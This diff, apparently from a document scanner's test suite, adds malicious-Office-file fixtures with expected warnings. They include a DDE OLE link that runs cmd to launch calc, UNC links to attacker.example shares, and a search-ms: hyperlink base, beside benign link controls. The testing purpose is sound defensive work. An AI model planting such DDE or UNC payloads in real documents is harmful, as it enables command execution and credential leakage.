@@ -58,6 +58,7 @@ import {
   binarySheet,
   documentVml,
   formControlFormula,
+  hyperlinkBase,
   macroSheetByRelationship,
   nestedField,
   sheetWith,
@@ -1592,6 +1593,42 @@ function reachingOfficeItems(): CorpusItem[] {
       () => definedNameFormula("'https://attacker.example/d/[b.xlsx]Sheet1'!$A$1"),
       'OOXML_EXTERNAL',
     ),
+    item(
+      'xlsx-ole-object-link-dde',
+      'DDE',
+      () =>
+        sheetWith(
+          `<oleObjects><oleObject progId="Word.Document.12" link="cmd|' /c calc'!A0" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/></oleObjects>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-ole-object-link-unc',
+      'OOXML external',
+      () =>
+        sheetWith(
+          `<oleObjects><oleObject progId="Package" link="'\\\\attacker.example\\share\\x.docx'!''''" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/></oleObjects>`,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-base-unc',
+      'OOXML external',
+      () => hyperlinkBase('\\\\attacker.example\\share\\'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-base-program',
+      'OOXML external',
+      () => hyperlinkBase('search-ms:crumb=location:'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-extended-properties-other-name',
+      'OOXML unreadable',
+      () => hyperlinkBase('\\\\attacker.example\\share\\', 'docProps/extra.xml'),
+      'OOXML_UNREADABLE',
+    ),
   ];
 }
 
@@ -2069,6 +2106,12 @@ export const ACTIVE_GENUINE: readonly {
       documentLinking('<w:p><w:hyperlink r:id="rId7"><w:r><w:t>联系我们</w:t></w:r></w:hyperlink></w:p>', [
         rel('rId7', 'hyperlink', 'mailto:cluster@miit.gov.cn', true),
       ]),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'docx-hyperlink-base-web',
+    declared: 'docx',
+    bytes: () => hyperlinkBase('https://www.miit.gov.cn/'),
     warning: 'EXTERNAL_LINK',
   },
 ];
